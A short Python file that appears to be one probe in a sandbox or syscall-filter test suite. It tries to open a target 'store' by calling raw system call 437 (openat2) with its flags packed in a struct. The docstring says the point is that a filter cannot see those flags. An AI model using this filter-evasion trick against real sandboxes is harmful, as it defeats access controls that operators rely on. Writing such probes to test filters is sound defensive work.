"""Wants the store by a system call whose flags a filter cannot see."""

import struct

from .aim import TARGET, attempt, play, syscall

GAMES = ["flip7"]

attempt(syscall, 437, -100, TARGET.store.encode(), struct.pack("QQQ", 0, 0, 0), 24)

act = play
